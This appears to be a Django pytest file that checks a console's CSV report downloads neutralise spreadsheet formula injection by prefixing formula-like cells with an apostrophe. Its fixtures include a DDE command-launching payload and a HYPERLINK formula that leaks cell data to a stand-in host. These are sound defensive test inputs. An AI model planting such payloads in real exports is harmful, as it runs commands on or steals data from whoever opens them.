"""CSV downloads neutralise spreadsheet formulas (issue 7).

The console has one CSV download: an attribution report's discrepancies (`?format=csv` on the report page,
written by routing/reports/attribution.py `attribution_report_csv`, every cell through routing/text.py `csv_cell`;
and a queue's distribution report, routing/availability/report.py `distribution_csv`).
A cell that starts like a formula (`=`, `+`, `-`, `@`, tab, carriage return) gets a leading apostrophe, so a
spreadsheet shows it as text instead of running it. Values reach it from both sides: ours (source names,
lead ids as capture systems sent them, usernames) and the CRM's (owner, stage, amount, origin, lead id; the
upload strips the CRM's cells and intake strips lead fields, so a leading tab or carriage return can only
come from a value stored some other way; the download neutralises it all the same).

Decided for numbers: a plain decimal number (an optional minus, digits, an optional fraction: `-5`,
`-1200.50`) is left as it is in every column, so a spreadsheet reads a negative amount as the number it is;
it cannot run anything. Anything else starting with a prefix, a negative-looking formula like `-3+3`
included, is neutralised. A new CSV export adds its download to `DOWNLOADS` below.
"""

import csv
import datetime as dt
import io
import re

import pytest
from django.urls import reverse

from routing.models import LeadStatus
from routing.reports.attribution import attribution_reconcile
from tests.factories import LeadFactory, SourceFactory, UserFactory

pytestmark = pytest.mark.django_db

PREFIXES = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")
# One per prefix, distinct once stripped: the report keys leads by (origin, stripped lead id).
FORMULAS = ["=1+1", "+2+2", "-3+3", "@SUM(A1)", "\t=4+4", "\r=5+5"]
SINCE = dt.datetime(2026, 5, 4, tzinfo=dt.UTC)
UNTIL = dt.datetime(2026, 5, 11, tzinfo=dt.UTC)
IN_PERIOD = dt.datetime(2026, 5, 6, 10, 0, tzinfo=dt.UTC)
DDE = "=cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("http://x.example/?leak="&A1,"open")'


@pytest.fixture
def attribution_report():
    """Our side: a source named like a formula, an assignee whose username starts with '-', leads whose ids
    start with each prefix (missing in the CRM), and one named `-5`. The CRM's side: formula cells for a
    misrouted lead, a lead received before the period and a lead we never saw, with negative amounts."""
    origin = SourceFactory(name="@web")
    alice = UserFactory(username="-alice")

    def ours(lead_id, received_at=IN_PERIOD):
        return LeadFactory(
            origin=origin, lead_id=lead_id, status=LeadStatus.ASSIGNED, assignee=alice, received_at=received_at
        )

    for lead_id in [*FORMULAS, "-5"]:
        ours(lead_id)
    ours("W-1")
    ours("W-0", received_at=SINCE - dt.timedelta(days=2))
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerows(
        [
            ["lead_id", "origin", "owner", "stage", "amount"],
            ["W-1", "@web", DDE, "+stage", "-5"],  # misrouted
            ["W-0", "@web", "@owner", "-x", "-1200.50"],  # received before the period
            [HYPERLINK, "+crm", "-bob", "@stage", "-0.5"],  # unknown to us
        ]
    )
    return attribution_reconcile(
        file=io.BytesIO(out.getvalue().encode()), name="crm.csv", by=alice, since=SINCE, until=UNTIL
    )


def download_attribution(client, report) -> list[list[str]]:
    response = client.get(reverse("console:attribution-report", args=[report.pk]), {"format": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment;")
    return list(csv.reader(io.StringIO(response.content.decode(), newline="")))


DOWNLOADS = {"attribution report": ("attribution_report", download_attribution)}


@pytest.fixture(params=list(DOWNLOADS))
def downloaded(request, client, ops_person):
    fixture, download = DOWNLOADS[request.param]
    client.force_login(ops_person)
    return download(client, request.getfixturevalue(fixture))


def test_no_downloaded_cell_starts_like_a_formula(downloaded):
    header, *rows = downloaded
    assert rows, "the download has no rows to check"
    running = [cell for row in rows for cell in row if cell.startswith(PREFIXES) and not PLAIN_NUMBER.fullmatch(cell)]
    assert running == []


def test_the_attribution_download_prefixes_each_formula_with_an_apostrophe_and_keeps_the_rest(
    client, ops_person, attribution_report
):
    client.force_login(ops_person)
    header, *rows = download_attribution(client, attribution_report)
    by_lead = {(row[0], row[2]): dict(zip(header, row, strict=True)) for row in rows}

    for formula in FORMULAS:  # our lead ids, through every prefix
        row = by_lead[("missing_in_crm", "'" + formula)]
        assert (row["origin"], row["ours"]) == ("'@web", "'-alice")
    misrouted = by_lead[("misrouted", "W-1")]
    assert (misrouted["crm"], misrouted["stage"], misrouted["amount"]) == ("'" + DDE, "'+stage", "-5")
    outside = by_lead[("outside_period", "W-0")]
    assert (outside["crm"], outside["stage"], outside["amount"]) == ("'@owner", "'-x", "-1200.50")
    unknown = by_lead[("unknown_to_us", "'" + HYPERLINK)]
    assert (unknown["origin"], unknown["crm"], unknown["stage"]) == ("'+crm", "'-bob", "'@stage")


def test_the_attribution_download_leaves_plain_negative_numbers_as_numbers(client, ops_person, attribution_report):
    client.force_login(ops_person)
    header, *rows = download_attribution(client, attribution_report)
    amounts = {row[2]: row[header.index("amount")] for row in rows if row[0] != "missing_in_crm"}
    assert amounts == {"W-1": "-5", "W-0": "-1200.50", "'" + HYPERLINK: "-0.5"}
    assert ["missing_in_crm", "'@web", "-5"] == rows[[row[2] for row in rows].index("-5")][:3]  # an id like -5 too
